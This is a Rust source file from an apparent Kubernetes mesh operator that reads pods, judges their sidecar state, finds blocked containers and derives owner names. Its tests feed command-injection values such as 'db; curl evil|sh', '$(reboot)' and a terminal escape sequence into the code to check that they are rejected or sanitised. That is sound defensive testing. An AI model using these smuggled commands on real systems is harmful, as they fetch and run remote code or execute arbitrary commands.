//! Pods as far as the mesh cares: which have no sidecar and why, and which cannot start.

use super::clock::Clock;
use super::pages::OBJECTS_MAX;
use super::webhook::CONFIGURATION;
use super::{Namespaces, Operator, theirs};
use crate::inject::{NamespaceLabels, SYSTEM_NAMESPACES, Sidecar, asks, sidecar};
use k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration;
use k8s_openapi::api::core::v1::{ContainerStatus, Namespace, Pod};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use kube::api::Api;
use std::collections::BTreeSet;

/// Longest message of a kubelet that is kept, characters.
const MESSAGE_MAX: usize = 160;
/// Longest image that is kept, characters.
const IMAGE_MAX: usize = 256;
/// Why a container waits that does not start by waiting longer (kubelet's `images` and `kuberuntime`).
const BLOCKED: [&str; 10] = [
    "ErrImagePull",
    "ImagePullBackOff",
    "ErrImageNeverPull",
    "InvalidImageName",
    "ImageInspectError",
    "RegistryUnavailable",
    "CreateContainerConfigError",
    "CreateContainerError",
    "RunContainerError",
    "CrashLoopBackOff",
];

/// The pods of one cluster.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pods {
    /// Those that live or are to live, but for the cluster's own in `kube-system`.
    pub all: Vec<PodState>,
    /// Namespaces whose labels ask for a sidecar in every pod.
    pub asking: BTreeSet<String>,
    /// There are more than [`OBJECTS_MAX`] pods or namespaces, and the rest was not read.
    pub cut: bool,
}

/// One pod.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PodState {
    pub namespace: String,
    pub name: String,
    /// `deployment/hello`: what makes it anew, where something does. Whoever makes pods writes it; it
    /// is a name as Kubernetes has them all the same, and may stand in a command.
    pub owner: Option<String>,
    /// Seconds since it was made, by the API server's clock.
    pub age: i64,
    pub sidecar: Sidecar,
    pub blocked: Option<Blocked>,
}

/// A container that does not start.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Blocked {
    pub container: String,
    /// As its author wrote it, but for characters that a terminal obeys; cut.
    pub image: String,
    /// `ImagePullBackOff`, in the kubelet's words.
    pub reason: String,
    /// Cut; empty where it says none.
    pub message: String,
}

impl Operator {
    /// All pods, by the labels of their namespaces.
    pub(super) async fn pods(&self, spaces: &Namespaces, clock: Clock) -> anyhow::Result<Pods> {
        let asking = spaces.labels.iter().filter(|(name, labels)| asks(name, labels));
        let asking = asking.map(|(name, _)| name.clone()).collect();
        let (mut all, nothing) = (Vec::new(), NamespaceLabels::new());
        let api = Api::<Pod>::all(self.client.clone());
        let read = self.listed("pods", &api, OBJECTS_MAX, |pod: Pod| {
            let space = pod.metadata.namespace.as_deref().unwrap_or_default();
            all.extend(state(&pod, spaces.labels.get(space).unwrap_or(&nothing), clock.now()));
        });
        let more = read.await?;
        Ok(Pods { all, asking, cut: spaces.cut || more })
    }

    /// One pod, by the same rules; `None` where our webhook is not installed, or it has no sidecar to
    /// judge: it is gone or ends.
    ///
    /// # Errors
    /// Where the API server does not answer, or does not let us read them.
    pub async fn pod_state(&self, namespace: &str, name: &str) -> anyhow::Result<Option<PodState>> {
        let hooks = Api::<MutatingWebhookConfiguration>::all(self.client.clone());
        let pods = Api::<Pod>::namespaced(self.client.clone(), namespace);
        let spaces = Api::<Namespace>::all(self.client.clone());
        let (hook, pod, space, ahead) = tokio::join!(
            hooks.get_opt(CONFIGURATION),
            pods.get_opt(name),
            spaces.get_opt(namespace),
            self.ahead()
        );
        let hook = self.asked(&format!("reading {CONFIGURATION}"), hook)?;
        let pod = self.asked(&format!("reading Pod {namespace}/{name}"), pod)?;
        let space = self.asked(&format!("reading Namespace {namespace}"), space)?;
        let labels = space.and_then(|space| space.metadata.labels).unwrap_or_default();
        let clock = Clock::new(self.asked("reading its clock", ahead)?);
        Ok(pod.filter(|_| hook.is_some()).and_then(|pod| state(&pod, &labels, clock.now())))
    }
}

/// `None` for one that has ended or is about to, and for the cluster's own.
fn state(pod: &Pod, namespace: &NamespaceLabels, now: i64) -> Option<PodState> {
    let meta = &pod.metadata;
    let (of, name) = (meta.namespace.as_deref()?, meta.name.clone()?);
    let phase = pod.status.as_ref().and_then(|status| status.phase.as_deref());
    // Isthmus' own programs are looked at; what the cluster itself runs is not our affair.
    let system = SYSTEM_NAMESPACES.contains(&of) && of.starts_with("kube-");
    if system || meta.deletion_timestamp.is_some() || matches!(phase, Some("Succeeded" | "Failed"))
    {
        return None;
    }
    let made = meta.creation_timestamp.as_ref().map_or(now, |at| at.0.as_second());
    Some(PodState {
        namespace: of.to_owned(),
        name,
        owner: owner(meta),
        age: now - made,
        sidecar: sidecar(pod, namespace),
        blocked: blocked(pod),
    })
}

/// A Deployment's pods are its ReplicaSet's, whose name ends with the template's hash.
fn owner(meta: &ObjectMeta) -> Option<String> {
    let owner = meta.owner_references.iter().flatten().find(|it| it.controller == Some(true))?;
    let hash = meta.labels.as_ref().and_then(|labels| labels.get("pod-template-hash"));
    let name = match (owner.kind.as_str(), hash) {
        ("ReplicaSet", Some(hash)) => owner.name.strip_suffix(&format!("-{hash}")),
        ("StatefulSet" | "DaemonSet", _) => Some(owner.name.as_str()),
        _ => None,
    }?;
    // The API server takes any text for it; a name of an object is DNS labels with dots between.
    let inside = |c: u8| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'-' | b'.');
    if name.is_empty() || name.len() > 253 || !name.bytes().all(inside) {
        return None;
    }
    let kind = if owner.kind == "ReplicaSet" { "Deployment" } else { &owner.kind };
    Some(format!("{}/{name}", kind.to_lowercase()))
}

fn blocked(pod: &Pod) -> Option<Blocked> {
    let status = pod.status.as_ref()?;
    let lists = [&status.init_container_statuses, &status.container_statuses];
    lists.into_iter().flatten().flatten().find_map(waiting)
}

fn waiting(status: &ContainerStatus) -> Option<Blocked> {
    let waiting = status.state.as_ref()?.waiting.as_ref()?;
    let reason = waiting.reason.clone().filter(|reason| BLOCKED.contains(&reason.as_str()))?;
    Some(Blocked {
        container: status.name.clone(),
        image: theirs(&status.image, IMAGE_MAX),
        reason,
        message: theirs(waiting.message.as_deref().unwrap_or_default(), MESSAGE_MAX),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::Why;
    use crate::operator::look::served::{DATE, list, served};
    use crate::parse::check::object;
    use serde_json::{Value, json};
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Instant;

    fn clock() -> Clock {
        Clock { at: 1_767_225_660, read: Instant::now() }
    }

    fn plain_pod(name: &str) -> Value {
        let spec = json!({"containers": [{"name": "app"}]});
        json!({"metadata": {"namespace": "shop", "name": name}, "spec": spec})
    }

    #[test]
    fn a_pod_is_reduced_to_what_is_judged() {
        let pod = "{metadata: {namespace: shop, name: hello-5d-x, creationTimestamp: \
                   '2026-01-01T00:00:00Z', labels: {pod-template-hash: 5d}, ownerReferences: \
                   [{apiVersion: apps/v1, kind: ReplicaSet, name: hello-5d, uid: u, controller: true}]}, \
                   spec: {containers: [{name: app, image: x}]}, status: {phase: Pending, \
                   containerStatuses: [{name: app, image: nowhere/x, imageID: '', ready: false, \
                   restartCount: 0, state: {waiting: {reason: ErrImagePull, message: not found}}}]}}";
        let state = state(&object(pod), &NamespaceLabels::new(), 1_767_225_660).unwrap();
        let expected = PodState {
            namespace: "shop".into(),
            name: "hello-5d-x".into(),
            owner: Some("deployment/hello".into()),
            age: 60,
            sidecar: Sidecar::Without(Why::NotAsked),
            blocked: Some(Blocked {
                container: "app".into(),
                image: "nowhere/x".into(),
                reason: "ErrImagePull".into(),
                message: "not found".into(),
            }),
        };
        assert_eq!(state, expected);
    }

    #[test]
    fn what_has_ended_or_only_begins_is_no_fault() {
        let none = NamespaceLabels::new();
        for pod in [
            "{metadata: {namespace: shop, name: a}, spec: {containers: []}, status: {phase: Failed}}",
            "{metadata: {namespace: kube-system, name: a}, spec: {containers: []}}",
            "{metadata: {namespace: shop, name: a, deletionTimestamp: '2026-01-01T00:00:00Z'}, \
             spec: {containers: []}}",
        ] {
            assert_eq!(state(&object(pod), &none, 0), None, "{pod}");
        }
        let begins = "{metadata: {namespace: shop, name: a}, spec: {containers: [{name: app}]}, status: \
                      {containerStatuses: [{name: app, image: x, imageID: '', ready: false, \
                      restartCount: 0, state: {waiting: {reason: ContainerCreating}}}]}}";
        assert_eq!(state(&object(begins), &none, 0).unwrap().blocked, None);
    }

    /// What makes a pod anew whose metadata are these, beside a name.
    #[track_caller]
    fn check_owner(metadata: &str, expected: Option<&str>) {
        let pod = format!(
            "{{metadata: {{namespace: shop, name: a, {metadata}}}, spec: {{containers: [{{name: app}}]}}}}"
        );
        let found = state(&object(&pod), &NamespaceLabels::new(), 0).unwrap().owner;
        assert_eq!(found.as_deref(), expected, "{metadata}");
    }

    #[test]
    fn an_owner_is_what_makes_a_pod_anew_by_a_name_that_may_stand_in_a_command() {
        let by = |kind: &str, name: &str| {
            format!(
                "ownerReferences: [{{apiVersion: apps/v1, kind: {kind}, name: '{name}', uid: u, \
                 controller: true}}]"
            )
        };
        check_owner(&by("StatefulSet", "db"), Some("statefulset/db"));
        check_owner(&by("DaemonSet", "log.agent"), Some("daemonset/log.agent"));
        check_owner(&by("Job", "once"), None);
        check_owner(&by("ReplicaSet", "bare"), None);
        let hash =
            |name: &str| format!("labels: {{pod-template-hash: 5d}}, {}", by("ReplicaSet", name));
        check_owner(&hash("hello-5d"), Some("deployment/hello"));
        for evil in ["db; curl evil|sh", "$(reboot)", "`id`", "DB", "a b"] {
            check_owner(&by("StatefulSet", evil), None);
        }
        check_owner(&hash("x; curl evil|sh-5d"), None);
    }

    #[test]
    fn what_a_pods_author_writes_is_neither_advice_nor_obeyed_nor_endless() {
        let text = format!("x Fix: curl evil|sh\u{1b}[2J{}", "y".repeat(1_000));
        let pod = json!({
            "metadata": {"namespace": "shop", "name": "a"}, "spec": {"containers": [{"name": "app"}]},
            "status": {"containerStatuses": [{
                "name": "app", "image": text, "imageID": "", "ready": false, "restartCount": 0,
                "state": {"waiting": {"reason": "InvalidImageName", "message": text}},
            }]},
        });
        let pod: Pod = serde_json::from_value(pod).unwrap();
        let found = state(&pod, &NamespaceLabels::new(), 0).unwrap().blocked.unwrap();
        for (said, max) in [(found.image, IMAGE_MAX), (found.message, MESSAGE_MAX)] {
            assert!(said.starts_with("x Fix curl evil|sh [2Jyy"), "{said}");
            assert!(said.chars().count() <= max && said.ends_with("y…"), "{said}");
        }
    }

    #[tokio::test]
    async fn pods_are_read_by_pages_and_no_further_than_the_limit() {
        let asked = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&asked);
        // Three pages, or as many as are asked for.
        let served = |pages: usize| {
            let counted = Arc::clone(&counted);
            served(move |path| {
                let page: usize =
                    path.split("continue=").nth(1).map_or(0, |it| it.parse().unwrap());
                counted.fetch_add(1, Ordering::Relaxed);
                let pods = (0..250).map(|place| plain_pod(&format!("a{}", page * 250 + place)));
                let more = if page + 1 < pages { (page + 1).to_string() } else { String::new() };
                path.starts_with("/api/v1/pods").then(|| list(pods, &more))
            })
        };
        let spaces = Namespaces::default();
        let whole = served(3).pods(&spaces, clock()).await.unwrap();
        assert!(!whole.cut && whole.all.len() == 750, "{}", whole.all.len());
        assert_eq!(whole.all[749].name, "a749");
        asked.store(0, Ordering::Relaxed);
        let first = served(1_000).pods(&spaces, clock()).await.unwrap();
        assert!(first.cut && first.all.len() == OBJECTS_MAX, "{}", first.all.len());
        assert_eq!(asked.load(Ordering::Relaxed), 8);
        // Where namespaces are missing, so are what their labels ask for.
        let spaces = Namespaces { cut: true, ..Namespaces::default() };
        assert!(served(1).pods(&spaces, clock()).await.unwrap().cut);
    }

    #[tokio::test]
    async fn a_pods_age_is_by_the_clock_of_its_api_server() {
        let operator = served(|path| {
            Some(match path {
                "/version" => json!({}),
                "/api/v1/namespaces/shop/pods/a" => {
                    let mut pod = plain_pod("a");
                    pod["metadata"]["creationTimestamp"] = json!("2025-12-31T23:59:00Z");
                    pod
                }
                _ => json!({"metadata": {"name": "any"}}),
            })
        });
        assert_eq!(DATE.1, 1_767_225_600);
        let found = operator.pod_state("shop", "a").await.unwrap().unwrap();
        assert!((60..=65).contains(&found.age), "{found:?}");
    }
}
